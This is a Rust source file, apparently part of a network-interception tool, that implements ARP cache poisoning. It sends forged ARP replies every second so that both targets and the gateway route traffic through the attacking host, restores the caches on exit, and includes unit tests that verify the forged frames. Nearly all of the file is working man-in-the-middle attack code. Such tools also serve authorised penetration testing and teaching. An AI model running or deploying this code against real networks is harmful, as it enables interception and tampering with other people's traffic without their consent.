//! Address-resolution poisoning, the default spoofing strategy.
//!
//! Every second, for the current target snapshot, two forged replies go
//! out per resolved target: one telling the target that the gateway's
//! address lives at our MAC, one telling the gateway that the target's
//! address lives at our MAC. Together they pin both directions of the
//! conversation to this host. Targets whose MAC is still unknown get a
//! genuine probe instead and are skipped until a reply comes back.

use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, bail};
use async_trait::async_trait;
use pnet::util::MacAddr;
use snare_common::network::interface::NetworkInfo;
use snare_protocols::arp;
use tracing::{debug, info, warn};

use crate::channel::{self, EthernetHandle};
use crate::session::Session;
use crate::spoofer::SpooferStrategy;

const POISON_INTERVAL: Duration = Duration::from_secs(1);
const GATEWAY_PROBE_ATTEMPTS: u32 = 5;
const GATEWAY_PROBE_TIMEOUT: Duration = Duration::from_secs(1);
/// Corrective replies are sent in a small burst; ARP caches are lossy.
const RESTORE_ROUNDS: usize = 2;

pub struct ArpSpoofer {
    gateway_mac: Option<MacAddr>,
}

impl ArpSpoofer {
    pub fn new() -> Self {
        Self { gateway_mac: None }
    }
}

impl Default for ArpSpoofer {
    fn default() -> Self {
        Self::new()
    }
}

#[async_trait]
impl SpooferStrategy for ArpSpoofer {
    fn name(&self) -> &'static str {
        "arp"
    }

    async fn start(&mut self, session: Arc<Session>) -> anyhow::Result<()> {
        let mut handle = channel::start_capture(&session.network().interface)
            .context("opening spoofer channel")?;

        let gateway_mac = resolve_gateway_mac(&mut handle, session.network()).await?;
        self.gateway_mac = Some(gateway_mac);
        info!(
            "gateway {} is at {gateway_mac}, poisoning every {}s",
            session.network().gateway,
            POISON_INTERVAL.as_secs()
        );

        let mut shutdown = session.shutdown();
        let mut tick = tokio::time::interval(POISON_INTERVAL);

        loop {
            tokio::select! {
                _ = shutdown.changed() => break,

                _ = tick.tick() => poison_cycle(&mut handle, &session, gateway_mac),

                frame = handle.rx.recv() => match frame {
                    Some(bytes) => harvest_reply(&session, &bytes),
                    None => break,
                }
            }
        }

        restore(&mut handle, &session, gateway_mac);
        Ok(())
    }
}

/// One poisoning pass over a target snapshot.
pub fn poison_cycle(handle: &mut EthernetHandle, session: &Session, gateway_mac: MacAddr) {
    let network = session.network();

    for target in session.targets_snapshot() {
        match target.mac {
            Some(target_mac) => {
                // To the target: the gateway's ip is at our MAC.
                let to_target =
                    arp::reply(network.mac, network.gateway, target_mac, target.ip);
                // To the gateway: the target's ip is at our MAC.
                let to_gateway = arp::reply(network.mac, target.ip, gateway_mac, network.gateway);

                for frame in [to_target, to_gateway] {
                    if let Err(e) = handle.send(&frame) {
                        warn!("poison send for {} failed: {e:#}", target.ip);
                    }
                }
            }
            None => {
                // Unknown MAC; probe and let reply harvesting fill it in.
                if let Err(e) = handle.send(&arp::request(network.mac, network.ip, target.ip)) {
                    warn!("probe send for {} failed: {e:#}", target.ip);
                }
            }
        }
    }
}

/// Best-effort restoration: re-announce the true gateway↔target pairings
/// so caches heal as soon as the tool exits. Failures are logged, never
/// raised; the loop is already shutting down.
pub fn restore(handle: &mut EthernetHandle, session: &Session, gateway_mac: MacAddr) {
    let network = session.network();
    info!("restoring address resolution state for {} targets", session.target_count());

    for _ in 0..RESTORE_ROUNDS {
        for target in session.targets_snapshot() {
            let Some(target_mac) = target.mac else {
                continue;
            };

            let to_target = arp::reply(gateway_mac, network.gateway, target_mac, target.ip);
            let to_gateway = arp::reply(target_mac, target.ip, gateway_mac, network.gateway);

            for frame in [to_target, to_gateway] {
                if let Err(e) = handle.send(&frame) {
                    warn!("restore send for {} failed: {e:#}", target.ip);
                }
            }
        }
    }
}

fn harvest_reply(session: &Session, frame: &[u8]) {
    if let Some((ip, mac)) = arp::parse_reply(frame) {
        session.refresh_target(ip, mac);
    }
}

/// Probes for the gateway's true MAC. Fatal for this strategy when the
/// gateway never answers: without it neither the gateway-facing forgeries
/// nor restoration are possible.
async fn resolve_gateway_mac(
    handle: &mut EthernetHandle,
    network: &NetworkInfo,
) -> anyhow::Result<MacAddr> {
    for attempt in 1..=GATEWAY_PROBE_ATTEMPTS {
        handle.send(&arp::request(network.mac, network.ip, network.gateway))?;

        let deadline = tokio::time::sleep(GATEWAY_PROBE_TIMEOUT);
        tokio::pin!(deadline);

        loop {
            tokio::select! {
                _ = &mut deadline => break,

                frame = handle.rx.recv() => match frame {
                    Some(bytes) => {
                        if let Some((ip, mac)) = arp::parse_reply(&bytes) {
                            if ip == network.gateway {
                                return Ok(mac);
                            }
                        }
                    }
                    None => bail!("capture channel closed while resolving the gateway"),
                }
            }
        }

        debug!("gateway probe attempt {attempt}/{GATEWAY_PROBE_ATTEMPTS} timed out");
    }

    bail!("gateway {} did not answer any probe", network.gateway)
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝

#[cfg(test)]
mod tests {
    use super::*;
    use crate::session::testnet;
    use pnet::datalink::{DataLinkSender, NetworkInterface};
    use pnet::packet::Packet;
    use pnet::packet::arp::{ArpOperations, ArpPacket};
    use pnet::packet::ethernet::EthernetPacket;
    use std::io;
    use std::net::Ipv4Addr;
    use std::sync::{Arc, Mutex};
    use tokio::sync::mpsc;

    const GATEWAY_MAC: MacAddr = MacAddr(0x02, 0x00, 0x00, 0x00, 0x00, 0x01);
    const TARGET_MAC: MacAddr = MacAddr(0x02, 0x00, 0x00, 0x00, 0x00, 0x50);

    // ---- Fake sender to spy on emitted frames ----
    struct FakeSender {
        sent: Arc<Mutex<Vec<Vec<u8>>>>,
    }

    impl FakeSender {
        fn handle() -> (EthernetHandle, Arc<Mutex<Vec<Vec<u8>>>>) {
            let sent = Arc::new(Mutex::new(Vec::new()));
            let sender = FakeSender { sent: sent.clone() };
            let (_tx, rx) = mpsc::unbounded_channel();
            (EthernetHandle::from_parts(Box::new(sender), rx), sent)
        }
    }

    impl DataLinkSender for FakeSender {
        fn build_and_send(
            &mut self,
            _num_packets: usize,
            _packet_size: usize,
            _func: &mut dyn for<'a> FnMut(&'a mut [u8]),
        ) -> Option<io::Result<()>> {
            Some(Ok(()))
        }

        fn send_to(
            &mut self,
            packet: &[u8],
            _dst: Option<NetworkInterface>,
        ) -> Option<io::Result<()>> {
            self.sent.lock().unwrap().push(packet.to_vec());
            Some(Ok(()))
        }
    }

    fn forged_claims(frames: &[Vec<u8>]) -> Vec<(Ipv4Addr, MacAddr, Ipv4Addr)> {
        frames
            .iter()
            .filter_map(|frame| {
                let ethernet = EthernetPacket::new(frame)?;
                let arp = ArpPacket::new(ethernet.payload())?;
                if arp.get_operation() != ArpOperations::Reply {
                    return None;
                }
                Some((
                    arp.get_sender_proto_addr(),
                    arp.get_sender_hw_addr(),
                    arp.get_target_proto_addr(),
                ))
            })
            .collect()
    }

    #[test]
    fn every_resolved_target_gets_both_forged_claims() {
        let session = testnet::session();
        let target_a = Ipv4Addr::new(192, 168, 1, 50);
        let target_b = Ipv4Addr::new(192, 168, 1, 60);
        session.upsert_target(target_a, Some(TARGET_MAC));
        session.upsert_target(target_b, Some(TARGET_MAC));

        let (mut handle, sent) = FakeSender::handle();
        poison_cycle(&mut handle, &session, GATEWAY_MAC);

        let claims = forged_claims(&sent.lock().unwrap());
        assert_eq!(claims.len(), 4);

        for target in [target_a, target_b] {
            // Toward the target: gateway ip claimed at our MAC.
            assert!(claims.contains(&(testnet::GATEWAY_IP, testnet::OUR_MAC, target)));
            // Toward the gateway: target ip claimed at our MAC.
            assert!(claims.contains(&(target, testnet::OUR_MAC, testnet::GATEWAY_IP)));
        }
    }

    #[test]
    fn unresolved_targets_are_probed_not_poisoned() {
        let session = testnet::session();
        session.upsert_target(Ipv4Addr::new(192, 168, 1, 50), None);

        let (mut handle, sent) = FakeSender::handle();
        poison_cycle(&mut handle, &session, GATEWAY_MAC);

        let frames = sent.lock().unwrap();
        assert_eq!(frames.len(), 1);

        let ethernet = EthernetPacket::new(&frames[0]).unwrap();
        let arp = ArpPacket::new(ethernet.payload()).unwrap();
        assert_eq!(arp.get_operation(), ArpOperations::Request);
        assert_eq!(arp.get_target_proto_addr(), Ipv4Addr::new(192, 168, 1, 50));
    }

    #[test]
    fn restore_announces_the_true_associations() {
        let session = testnet::session();
        let target = Ipv4Addr::new(192, 168, 1, 50);
        session.upsert_target(target, Some(TARGET_MAC));
        // An unresolved target cannot be restored and must not break it.
        session.upsert_target(Ipv4Addr::new(192, 168, 1, 60), None);

        let (mut handle, sent) = FakeSender::handle();
        restore(&mut handle, &session, GATEWAY_MAC);

        let claims = forged_claims(&sent.lock().unwrap());
        assert_eq!(claims.len(), 2 * RESTORE_ROUNDS);
        assert!(claims.contains(&(testnet::GATEWAY_IP, GATEWAY_MAC, target)));
        assert!(claims.contains(&(target, TARGET_MAC, testnet::GATEWAY_IP)));
    }

    #[test]
    fn harvested_replies_resolve_existing_targets_only() {
        let session = testnet::session();
        let known = Ipv4Addr::new(192, 168, 1, 50);
        session.upsert_target(known, None);

        harvest_reply(
            &session,
            &arp::reply(TARGET_MAC, known, testnet::OUR_MAC, testnet::OUR_IP),
        );
        harvest_reply(
            &session,
            &arp::reply(
                TARGET_MAC,
                Ipv4Addr::new(192, 168, 1, 200),
                testnet::OUR_MAC,
                testnet::OUR_IP,
            ),
        );

        assert_eq!(session.target_count(), 1);
        assert_eq!(session.targets_snapshot()[0].mac, Some(TARGET_MAC));
    }
}
